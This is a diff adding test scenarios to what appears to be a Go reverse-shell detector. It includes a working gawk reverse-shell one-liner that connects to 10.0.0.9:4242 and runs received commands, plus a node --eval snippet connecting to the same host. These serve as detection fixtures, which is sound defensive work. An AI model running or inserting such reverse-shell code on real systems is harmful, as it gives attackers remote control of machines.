@@ -151,6 +151,9 @@ func scenarios() []scenario {
 
 	// Reverse shells.
 	renamedBash := proc("kworker", "/tmp/.cache/kworker", "kworker", "-i")
+	gawkLoop := proc("gawk", "/usr/bin/gawk", "gawk", `BEGIN {s = "/inet/tcp/0/10.0.0.9/4242"; while (1) {s |& getline c; while ((c |& getline l) > 0) print l |& s; close(c)}}`)
+	gawkFile := proc("gawk", "/usr/bin/gawk", "gawk", "-f", "/opt/report/collect.awk")
+	nodeEval := proc("node", "/usr/bin/node", "node", "--eval", `require("net").connect(443,"10.0.0.9")`)
 	add(
 		scenario{"a renamed copy of bash started with stdin and stdout on a TCP socket is a reverse shell", revShell, true,
 			evs(execEv(renamedBash, stdio("tcp:10.0.0.9:4444", "tcp:10.0.0.9:4444", "tcp:10.0.0.9:4444"))), nil},
@@ -289,6 +292,12 @@ func scenarios() []scenario {
 			evs(connectEv(perlLoop, "10.0.0.9", 4444), execEv(childOf(proc("id", "/usr/bin/id", "id"), perlLoop), after(time.Second))), []int{0, 1}},
 		scenario{"python3 -u -c with subprocess.getoutput", loopShell, true,
 			evs(connectEv(pyLoop, "10.0.0.9", 443, failed("EINPROGRESS", 115)), execEv(childOf(proc("sh", "/usr/bin/dash", "/bin/sh", "-c", "uname -a"), pyLoop), after(time.Second))), []int{0, 1}},
+		scenario{"gawk connecting through /inet/tcp and running each command through sh -c", loopShell, true,
+			evs(connectEv(gawkLoop, "10.0.0.9", 4242), execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), gawkLoop), after(time.Second))), []int{0, 1}},
+		scenario{"an awk program kept in a file (-f) that connects and runs sh is not", loopShell, false,
+			evs(connectEv(gawkFile, "10.0.0.9", 4242), execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), gawkFile), after(time.Second))), nil},
+		scenario{"node --eval fetching and running commands", loopShell, true,
+			evs(connectEv(nodeEval, "10.0.0.9", 443), execEv(childOf(proc("sh", "/usr/bin/dash", "/bin/sh", "-c", "whoami"), nodeEval), after(time.Second))), []int{0, 1}},
 		scenario{"an application from a script file that calls its API and runs sh -c is not", loopShell, false,
 			evs(connectEv(app, "10.0.3.4", 443), execEv(appSh, after(time.Second))), nil},
 		scenario{"a one-liner that only resolves a name before running sh is not", loopShell, false,
